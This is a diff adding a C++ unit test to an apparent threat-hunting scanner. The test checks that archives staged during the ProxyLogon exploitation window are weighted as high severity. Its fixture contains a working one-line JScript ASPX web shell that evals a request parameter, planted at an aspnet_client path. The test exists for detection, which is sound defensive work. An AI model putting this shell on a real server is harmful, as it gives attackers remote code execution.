@@ -414,3 +414,45 @@ TEST(FilePlaneBaselineGolden, MicrosoftBaselinesLoad) {
 
 }  // namespace
 }  // namespace exhunt
+
+namespace exhunt::testing {
+namespace {
+
+TEST(FilePlane, AFileModifiedWhileACampaignRanWeighsMore) {
+  MemoryScan m;
+  const std::string archive = std::string("7z\xBC\xAF\x27\x1C", 6) + std::string(4000, 'x');
+  // The same archive staged in ProgramData twice: once during ProxyLogon's
+  // mass exploitation, once a year before it; and a shell by its content,
+  // written during it.
+  m.fs.AddFile(m.root + "/ProgramData/it.7z", archive, DaysFromCivil(2021, 3, 3) * 86400000LL + 3600000);
+  m.fs.AddFile(m.root + "/Users/Public/old.7z", archive, DaysFromCivil(2020, 3, 3) * 86400000LL);
+  m.fs.AddFile(m.root + "/inetpub/wwwroot/aspnet_client/system_web/s.aspx",
+               "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
+               DaysFromCivil(2021, 3, 3) * 86400000LL);
+  ScanResult r = m.Run();
+  const Finding* during = nullptr;
+  const Finding* before = nullptr;
+  bool shell_kept = false;
+  for (const auto& f : r.findings) {
+    if (f.rule->id.starts_with("exhunt.file.staged_archive") && f.source.path.ends_with("it.7z")) during = &f;
+    if (f.rule->id.starts_with("exhunt.file.staged_archive") && f.source.path.ends_with("old.7z")) before = &f;
+    if (f.source.path.ends_with("s.aspx")) {
+      EXPECT_EQ(f.rule->id.find(".modified_in_"), std::string::npos) << f.rule->id;
+      shell_kept = true;
+    }
+  }
+  ASSERT_TRUE(during && before);
+  EXPECT_TRUE(shell_kept);
+  EXPECT_EQ(before->rule->id, "exhunt.file.staged_archive");
+  EXPECT_EQ(before->rule->severity, Severity::kMedium);
+  EXPECT_EQ(during->rule->id, "exhunt.file.staged_archive.modified_in_proxylogon");
+  EXPECT_EQ(during->rule->severity, Severity::kHigh);
+  EXPECT_EQ(during->rule->outcome, before->rule->outcome);  // weight, not a different verdict
+  bool said = false;
+  for (const auto& [k, v] : during->evidence)
+    said |= k == "modified during" && v == "ProxyLogon mass exploitation (2021-02-26 .. 2021-03-10)";
+  EXPECT_TRUE(said);
+}
+
+}  // namespace
+}  // namespace exhunt::testing
